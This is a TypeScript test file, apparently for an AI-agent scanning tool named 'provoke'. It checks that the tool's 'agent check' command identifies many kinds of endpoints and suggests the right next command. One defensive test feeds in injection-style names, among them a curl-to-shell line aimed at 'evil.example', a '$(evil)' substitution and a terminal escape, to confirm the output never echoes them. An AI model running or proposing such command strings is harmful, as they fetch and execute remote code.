import type { Heard } from '@provoke/sandbox';
import { expect, test } from 'vitest';
import { openTerminal } from '../../test/terminal.ts';
import {
  answering,
  closing,
  gone,
  http2Only,
  plainAtHttps,
  selfSigned,
  sending,
  silent,
  tlsAtHttp,
} from './strangers.fixture.ts';

const page = '<!doctype html><html><title>Shop</title></html>';
const isPost = ({ method }: Heard) => method === 'POST';
const rpc = (error: string) => ({
  jsonrpc: '2.0',
  id: null,
  error: { code: -32600, message: error },
});

const mcp = answering(({ body, path }) => {
  if (path !== '/mcp') return undefined;
  if (!body.includes('"initialize"')) return { status: 406, body: rpc('Not Acceptable') };
  const result = { protocolVersion: '2025-06-18', serverInfo: { name: 's' }, capabilities: {} };
  return { body: { jsonrpc: '2.0', id: 1, result } };
}, '/mcp');

const a2a = answering(({ path, method }) => {
  if (path === '/.well-known/agent-card.json')
    return { body: { name: 'Desk', capabilities: {}, skills: [] } };
  return method === 'POST' ? { body: rpc('Invalid Request') } : undefined;
});

const langGraph = answering(({ path, body }) => {
  if (path === '/ok') return { body: { ok: true } };
  if (path !== '/runs/wait') return undefined;
  const { input } = JSON.parse(body);
  return { body: { messages: [...input.messages, { type: 'ai', content: 'from the graph' }] } };
});

const agUi = answering((heard) => {
  if (!isPost(heard)) return { status: 405, body: { detail: 'Method Not Allowed' } };
  const given = JSON.parse(heard.body);
  const needed = ['threadId', 'runId', 'state', 'messages', 'tools', 'context', 'forwardedProps'];
  const missing = needed.filter((name) => !(name in given));
  if (missing.length > 0)
    return {
      status: 422,
      body: { detail: missing.map((name) => ({ type: 'missing', loc: ['body', name] })) },
    };
  const events = [
    { type: 'RUN_STARTED' },
    { type: 'TEXT_MESSAGE_CONTENT', delta: 'from a run' },
    { type: 'RUN_FINISHED' },
  ];
  const body = events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join('');
  return { headers: { 'content-type': 'text/event-stream' }, body };
});

const acp = answering(({ path }) => {
  if (path === '/agents') return { body: { agents: [{ name: 'desk', description: 'Helps' }] } };
  const parts = [{ content_type: 'text/plain', content: 'from a run' }];
  return path === '/runs' ? { body: { output: [{ parts }] } } : undefined;
});

const graphql = answering(({ body }) =>
  body.includes('__typename')
    ? { body: { data: { __typename: 'Query' } } }
    : { status: 400, body: { errors: [{ message: 'Must provide query string.' }] } },
);

const soap = answering((heard) =>
  isPost(heard)
    ? {
        status: 500,
        headers: { 'content-type': 'text/xml' },
        body: '<?xml version="1.0"?><soap:Envelope><soap:Body><soap:Fault/></soap:Body></soap:Envelope>',
      }
    : undefined,
);

const polling = answering(({ path }) =>
  path.startsWith('/socket.io/') ? { body: '0{"sid":"a","upgrades":["websocket"]}' } : undefined,
);

const dataStream = answering((heard) =>
  isPost(heard)
    ? { headers: { 'x-vercel-ai-data-stream': 'v1' }, body: '0:"Hi"\nd:{"finishReason":"stop"}\n' }
    : { status: 405 },
);

const login = { status: 302, headers: { location: '/login?next=/' } };
const status = (code: number, headers: Record<string, string> = {}) =>
  answering(() => ({ status: code, headers, body: { message: 'no' } }));

const postgres = sending((bytes) => (bytes.length === 8 ? Buffer.from('N') : undefined));
const redis = sending(() => Buffer.from("-ERR unknown command 'GET'\r\n"));

const smtp = sending(() => Buffer.from('220 mail.example ESMTP\r\n'));
const mysql = sending(() => Buffer.from('J\0\0\0\n8.0.36\0'));
const tcpEcho = sending((bytes) => bytes);
const endless = answering(() => ({ body: 'a'.repeat(5_000_000) }));
/** As Joi says it. */
const joi = answering((heard) => {
  if (!isPost(heard)) return undefined;
  return 'utterance' in JSON.parse(heard.body)
    ? { body: { data: { answer: 'from a field' } } }
    : { status: 400, body: { error: '"utterance" is required' } };
});
/** As Hugging Face's servers answer. */
const tgi = answering((heard) => {
  if (!isPost(heard)) return undefined;
  return 'inputs' in JSON.parse(heard.body)
    ? { body: [{ generated_text: 'from a model' }] }
    : {
        status: 422,
        body: 'Failed to deserialize the JSON body: missing field `inputs` at line 1',
      };
});

/** Far ends of no known type: what is said, what is typed next, and what that line then answers. */
const strangers: readonly [string, () => Promise<string>, RegExp, string, (string | undefined)?][] =
  [
    ['a web page', answering(() => ({ body: page })), /a web page/, 'provoke scan http'],
    ['a sign-in', answering(() => login), /redirects to a sign-in/, '--api-key-env AGENT_KEY'],
    ['401', status(401), /asks for a key/, 'read -rs AGENT_KEY'],
    [
      '401 with a way to sign in',
      status(401, { 'www-authenticate': 'Basic realm="a"' }),
      /a user name and a password/,
      '--api-key-env AGENT_KEY',
    ],
    ['403', status(403), /refuses access/, '--api-key-env AGENT_KEY'],
    ['404 everywhere', answering(() => undefined), /nothing at this path/, 'provoke agent import'],
    ['405', status(405), /takes no POST/, '--agent-type http'],
    ['204', answering(() => ({ status: 204 })), /answers with nothing/, 'provoke agent import'],
    ['nothing', answering(() => ({})), /answers with nothing/, 'provoke agent import'],
    [
      'an echo',
      answering(({ body }) => ({ body })),
      /as an echo does/,
      '--agent-type http',
      'Hello',
    ],
    ['500', status(500), /fails with 500/, 'provoke agent import'],
    ['SOAP', soap, /answers with SOAP/, '--agent-type http'],
    ['GraphQL', graphql, /a GraphQL endpoint/, '--agent-type http'],
    ['WebSocket', status(426, { upgrade: 'websocket' }), /speaks WebSocket/, 'provoke scan'],
    ['socket.io', polling, /a socket.io server/, 'provoke scan'],
    ['AI SDK 4', dataStream, /data stream of AI SDK 4/, 'provoke scan'],
    ['MCP', mcp, /an MCP server/, 'provoke agent import'],
    ['A2A', a2a, /an A2A agent/, '--agent-type http'],
    ["LangGraph's server", langGraph, /LangGraph's server/, '--agent-type http', 'from the graph'],
    ['AG-UI', agUi, /speaks AG-UI/, '--agent-type http', 'from a run'],
    ['ACP', acp, /Agent Communication Protocol/, '--agent-type http', 'from a run'],
    ['HTTP/2 alone', http2Only, /HTTP\/2 alone/, 'provoke agent import'],
    ['TLS', tlsAtHttp, /expects TLS/, '--endpoint https://'],
    ['no TLS', plainAtHttps, /speaks plain HTTP/, '--endpoint http://', 'hi'],
    ['nothing at all', gone, /Nothing listens there/, 'provoke agent check'],
    ['PostgreSQL', postgres, /PostgreSQL, a database/, 'provoke agent import'],
    ['Redis', redis, /Redis, a database/, 'provoke agent import'],
    ['MySQL', mysql, /MySQL, a database/, 'provoke agent import'],
    ['SMTP', smtp, /a server of mail/, 'provoke agent import'],
    ['an echo below HTTP', tcpEcho, /but not in HTTP: "GET \/ HTTP/, 'provoke agent import'],
    ['an endless answer', endless, /more than 4 MiB/, 'provoke agent import'],
    ['a certificate of its own', selfSigned, /is not trusted/, 'export NODE_EXTRA_CA_CERTS=ca.pem'],
    [
      'a gateway without its agent',
      answering(() => ({ status: 502, body: page })),
      /fails with 502/,
      'provoke agent import',
    ],
    ['a field in words', joi, /takes JSON with "utterance"/, '--agent-type http', 'from a field'],
    ['a text generator', tgi, /takes JSON with "inputs"/, '--agent-type http', 'from a model'],
    ['one that closes', closing, /closes the connection/, 'provoke agent import'],
  ];

test.each(strangers)(
  'of %s it says what it is, and what to type',
  async (_, start, words, next, reply) => {
    const address = await start();
    const { type } = await openTerminal();

    const said = await type(
      `agent check --agent-type http --endpoint ${address} --setting reply_path=$.none`,
    );

    expect(said.code).toBe(1);
    expect(said.stdout).toMatch(words);
    const lines = said.stderr.split('\n').map((line) => line.trim());
    const line = lines.find((one) => one.includes(next)) ?? expect.fail(said.stderr);
    if (reply === undefined) return;
    const again = await type(line.replace(/^provoke /, '').replaceAll("'", ''));
    expect([line, again.code, again.stdout]).toEqual([line, 0, expect.stringContaining(reply)]);
  },
);

test('a far end that sends without an end is asked few times', async () => {
  let requests = 0;
  const address = await answering(() => {
    requests += 1;
    return { body: 'a'.repeat(5_000_000) };
  })();
  const { type } = await openTerminal();

  await type(`agent check --agent-type chatapi-sdk --model m --endpoint ${address}`);

  expect(requests).toBeLessThanOrEqual(3);
});

test('the same line is not suggested with and without the key', async () => {
  const address = await gone();
  const { type } = await openTerminal({ KEY: 'sk-target-key-123456' });

  const { stderr } = await type(
    `agent check --agent-type chatapi-sdk --model m --endpoint ${address} --api-key-env KEY`,
  );

  expect(stderr.match(/provoke agent check/g)).toHaveLength(1);
  expect(stderr).toContain('--api-key-env KEY');
});

test('of one that never answers it says so, in bounded time', async () => {
  const address = await silent();
  const { type } = await openTerminal();

  const said = await type(`agent check --agent-type http --endpoint ${address} --timeout 1`);

  expect(said).toMatchObject({ code: 1, stdout: expect.stringMatching(/never answers/) });
});

test('what a far end lists is no command to type', async () => {
  const names = ['fine', 'x; curl evil.example | sh', '$(evil)', '\u001b[2J', '--evil'];
  const address = await answering(({ path }) =>
    path === '/list-apps' ? { body: names } : undefined,
  )();
  const { type } = await openTerminal();

  const { stdout, stderr } = await type(`agent check --agent-type http --endpoint ${address}`);

  expect(stderr).toContain('--model fine');
  expect(stdout + stderr).not.toContain('evil');
  expect(stdout + stderr).not.toContain('\u001b');
});

test('a key goes to the address alone, and is shown nowhere', async () => {
  const heard: Heard[] = [];
  const elsewhere = await answering((request) => {
    heard.push(request);
    return {};
  })();
  const address = await answering(() => ({
    status: 307,
    headers: { location: elsewhere },
    body: 'sk-target-key-123456',
  }))();
  const { type } = await openTerminal({ KEY: 'sk-target-key-123456' });

  const said = await type(`agent check --agent-type http --endpoint ${address} --api-key-env KEY`);

  expect(heard).toEqual([]);
  expect(said.stdout + said.stderr).not.toContain('sk-target-key-123456');
});
